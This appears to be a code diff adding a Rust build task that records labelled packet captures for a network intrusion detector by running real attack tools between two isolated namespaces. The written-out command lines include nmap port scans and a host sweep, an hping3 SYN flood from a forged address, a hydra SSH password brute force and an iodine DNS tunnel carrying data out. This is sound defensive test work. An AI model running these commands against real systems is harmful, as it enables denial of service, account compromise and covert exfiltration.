@@ -1,0 +1,264 @@
+//! `cargo xtask pcaps --record`: real tools between two network namespaces, captured by our own agent.
+//!
+//! ```text
+//! namespace "out" 203.0.113.66 ──veth── 192.168.10.5 namespace "in": servers, and `sekimori-agent run` with `record`
+//! ```
+//!
+//! The captures differ from one recording to the next; what must be found in them does not. The namespaces have names
+//! of their own and are removed however the recording ends.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use anyhow::{Context, bail, ensure};
+
+use super::cases::ATTACKER;
+use super::craft::v4;
+use super::{Expect, FILE_BYTES_MAX, expected_json};
+use crate::command;
+use crate::install::Purpose;
+use crate::stage::{Collector, Place, Supervised};
+
+const SERVER: std::net::IpAddr = v4([192, 168, 10, 5]);
+/// The agent has opened its ring within this time; what is sent earlier is not recorded.
+const SETTLE: Duration = Duration::from_secs(3);
+
+/// Which of the two namespaces.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Side {
+    Inside,
+    Outside,
+}
+
+/// One capture to record.
+struct Recording {
+    name: &'static str,
+    about: &'static str,
+    expect: Vec<Expect>,
+    /// Programs that run meanwhile: where, and a shell command that stays.
+    servers: &'static [(Side, &'static str)],
+    /// What is recorded: where, and a shell command that ends.
+    acts: &'static [(Side, &'static str)],
+}
+
+fn recordings() -> Vec<Recording> {
+    let scan = || vec![Expect::of("scan.port", Some(ATTACKER), Some(SERVER))];
+    vec![
+        Recording {
+            name: "scan.port/positive-recorded-nmap-syn",
+            about: "nmap -sS over 300 ports from outside.",
+            expect: scan(),
+            servers: &[],
+            acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 -p1-300 192.168.10.5")],
+        },
+        Recording {
+            name: "scan.port/positive-recorded-nmap-connect",
+            about: "nmap -sT over 300 ports from outside.",
+            expect: scan(),
+            servers: &[],
+            acts: &[(Side::Outside, "nmap -n -Pn -sT -T4 -p1-300 192.168.10.5")],
+        },
+        Recording {
+            name: "scan.host/positive-recorded-nmap-sweep",
+            about: "nmap looks for port 445 on all of 192.168.20.0/24.",
+            expect: vec![Expect::of("scan.host", Some(ATTACKER), None)],
+            servers: &[],
+            acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 --max-retries 0 -p445 192.168.20.0/24")],
+        },
+        Recording {
+            name: "flood.syn/positive-recorded-hping3",
+            about: "hping3 sends 4000 SYN from a forged source to an SSH server, about 300 a second.",
+            expect: vec![Expect::of("flood.syn", None, Some(SERVER))],
+            servers: &[(Side::Inside, SSHD)],
+            acts: &[(
+                Side::Outside,
+                "hping3 -q -S -i u3000 -c 4000 -a 198.51.100.7 -p 22 192.168.10.5 || true",
+            )],
+        },
+        Recording {
+            name: "bruteforce.login/positive-recorded-hydra",
+            about: "hydra tries 60 wrong passwords on a real SSH server.",
+            expect: vec![Expect::of("bruteforce.login", Some(ATTACKER), Some(SERVER))],
+            servers: &[(Side::Inside, SSHD)],
+            acts: &[(Side::Outside, HYDRA)],
+        },
+        Recording {
+            name: "dns.tunnel/positive-recorded-iodine",
+            about: "iodine carries 20 kB out through DNS names under tunnel.example.",
+            expect: vec![Expect::of("dns.tunnel", Some(SERVER), None)],
+            servers: &[
+                (Side::Outside, "exec iodined -f -c -P secret 172.30.9.1 tunnel.example"),
+                (Side::Inside, "sleep 1; exec iodine -f -r -P secret 203.0.113.66 tunnel.example"),
+            ],
+            acts: &[(
+                Side::Inside,
+                "sleep 8; for i in $(seq 25); do head -c 800 /dev/urandom >/dev/udp/172.30.9.1/9; sleep 0.2; done",
+            )],
+        },
+        Recording {
+            name: "dns.tunnel/benign-recorded-dig-curl",
+            about: "dig asks dnsmasq for 40 names; curl reads pages over TLS.",
+            expect: vec![],
+            servers: &[
+                (Side::Outside, "exec dnsmasq -k -C /dev/null -R -h --address=/example/203.0.113.66"),
+                (Side::Outside, HTTPS),
+            ],
+            acts: &[(
+                Side::Inside,
+                "for i in $(seq 40); do dig +short www$i.city.example @203.0.113.66; \
+                 curl -sk --resolve www$i.city.example:443:203.0.113.66 https://www$i.city.example/ >page; done",
+            )],
+        },
+    ]
+}
+
+const HYDRA: &str = "seq -f guess%03g 60 >passwords; hydra -I -l nobody -P passwords -t 4 ssh://192.168.10.5";
+const SSHD: &str = "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f \"$PWD/hostkey\" <<<y; \
+    exec \"$(command -v sshd || echo /usr/sbin/sshd)\" -D -e -f /dev/null -h \"$PWD/hostkey\" -o UsePAM=no \
+    -o PasswordAuthentication=yes -o MaxStartups=100 -o ListenAddress=192.168.10.5";
+const HTTPS: &str = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
+    -subj /CN=city.example -keyout key.pem -out cert.pem; \
+    exec openssl s_server -quiet -www -accept 203.0.113.66:443 -key key.pem -cert cert.pem";
+
+/// Records every capture anew.
+pub(crate) fn all(root: &Path) -> anyhow::Result<()> {
+    let uid = command::output(Command::new("id").arg("-u"))?;
+    ensure!(uid.trim() == "0", "recording makes network namespaces and captures: run it as root");
+    let place = Place::build(root, Purpose::Record, "record")?;
+    // The agent captures only when it is enrolled; that it cannot reach the collector from its namespace does not matter.
+    let collector = Collector::start(&place, None)?;
+    let [body, ..] = super::scenario::BODIES;
+    let state = collector.enrol(&place, &body)?;
+    for recording in recordings() {
+        eprintln!("xtask: recording {}", recording.name);
+        record(&place, &state, &recording).with_context(|| format!("cannot record {}", recording.name))?;
+    }
+    Ok(())
+}
+
+fn record(place: &Place, state: &Path, recording: &Recording) -> anyhow::Result<()> {
+    let world = World::new()?;
+    let folder = place.state.join(recording.name.replace('/', "-"));
+    std::fs::create_dir_all(&folder)?;
+    let raw = folder.join("recorded.pcap");
+    let config = folder.join("agent.toml");
+    let text = format!("[capture]\ninterfaces = [\"sk-in\"]\nrecord = {raw:?}\n\n[state]\ndir = {state:?}\n");
+    std::fs::write(&config, text)?;
+    let mut agent = world.command(Side::Inside, place.program("sekimori-agent"));
+    agent.args(["run", "--config"]).arg(&config);
+    let mut running = Supervised::start(&agent, folder.join("agent.log"))?;
+    std::thread::sleep(SETTLE);
+    ensure!(running.is_running(), "the agent ended at once; see {}", folder.join("agent.log").display());
+
+    let mut servers = Vec::new();
+    for (number, (side, line)) in recording.servers.iter().enumerate() {
+        let shell = world.shell(*side, line, &folder);
+        servers.push(Supervised::start(&shell, folder.join(format!("server-{number}.log")))?);
+    }
+    std::thread::sleep(SETTLE);
+    for (side, line) in recording.acts {
+        command::output(&mut world.shell(*side, line, &folder))?;
+    }
+    std::thread::sleep(SETTLE);
+    drop(servers);
+    // Ends the agent with SIGTERM: it writes out what it has before it goes.
+    drop(running);
+    finish(place, recording, &raw)
+}
+
+/// Puts the capture where it belongs, if what must be found in it is found.
+fn finish(place: &Place, recording: &Recording, raw: &Path) -> anyhow::Result<()> {
+    let bytes = std::fs::read(raw).context("the agent recorded nothing")?;
+    ensure!(bytes.len() > 1_000, "the agent recorded only {} bytes", bytes.len());
+    ensure!(bytes.len() <= FILE_BYTES_MAX, "{} bytes were recorded, more than 1 MiB", bytes.len());
+    let found = command::output(place.agent().args(["replay", "--format", "findings"]).arg(raw))?;
+    for expect in &recording.expect {
+        let category = format!("\"category\":\"{}\"", expect.category);
+        let is_there =
+            found.lines().map(|line| line.replace("\": \"", "\":\"")).any(|line| line.contains(&category));
+        if !is_there {
+            bail!("{} is not found in what was recorded:\n{found}", expect.category);
+        }
+    }
+    let stem = place.root.join("pcaps").join(recording.name);
+    let beside = |extension: &str| PathBuf::from(format!("{}.{extension}", stem.display()));
+    std::fs::write(beside("pcap"), bytes)?;
+    std::fs::write(beside("expected.json"), expected_json(recording.about, None, &recording.expect)?)?;
+    Ok(())
+}
+
+/// Two namespaces joined by a veth pair; gone when dropped, with everything in them.
+struct World {
+    inside: String,
+    outside: String,
+}
+
+impl World {
+    fn new() -> anyhow::Result<Self> {
+        let id = std::process::id();
+        let world = Self { inside: format!("sk-{id}-in"), outside: format!("sk-{id}-out") };
+        let ip = |line: &str| command::output(Command::new("ip").args(line.split_whitespace()));
+        let (inside, outside) = (&world.inside, &world.outside);
+        ip(&format!("netns add {inside}"))?;
+        ip(&format!("netns add {outside}"))?;
+        ip(&format!("link add sk-in netns {inside} type veth peer name sk-out netns {outside}"))?;
+        for line in [
+            format!("-n {inside} addr add 192.168.10.5/24 dev sk-in"),
+            format!("-n {outside} addr add 203.0.113.66/24 dev sk-out"),
+            format!("-n {inside} link set sk-in up"),
+            format!("-n {outside} link set sk-out up"),
+            format!("-n {inside} link set lo up"),
+            format!("-n {outside} link set lo up"),
+            format!("-n {outside} route add 192.168.10.0/24 dev sk-out"),
+            // Behind the gateway, but nobody is there: the sweep goes unanswered.
+            format!("-n {outside} route add 192.168.20.0/24 via 192.168.10.5"),
+            format!("-n {inside} route add default dev sk-in"),
+        ] {
+            ip(&line)?;
+        }
+        Ok(world)
+    }
+
+    fn command(&self, side: Side, program: PathBuf) -> Command {
+        let namespace = match side {
+            Side::Inside => &self.inside,
+            Side::Outside => &self.outside,
+        };
+        let mut command = Command::new("ip");
+        command.args(["netns", "exec", namespace]).arg(program);
+        command
+    }
+
+    /// A shell line in a namespace and a folder.
+    fn shell(&self, side: Side, line: &str, folder: &Path) -> Command {
+        let mut command = self.command(side, "bash".into());
+        command.args(["-c", "cd \"$0\" && eval \"$1\""]).arg(folder).arg(line);
+        command
+    }
+}
+
+impl Drop for World {
+    fn drop(&mut self) {
+        for name in [&self.inside, &self.outside] {
+            if let Err(error) = command::output(Command::new("ip").args(["netns", "del", name])) {
+                eprintln!("xtask: {error:#}");
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn recordings_are_named_for_what_they_expect() {
+        for recording in recordings() {
+            let (category, file) = recording.name.split_once('/').unwrap();
+            assert!(recording.expect.iter().all(|expect| expect.category == category), "{}", recording.name);
+            let start = if recording.expect.is_empty() { "benign-recorded-" } else { "positive-recorded-" };
+            assert!(file.starts_with(start), "{}", recording.name);
+        }
+    }
+}
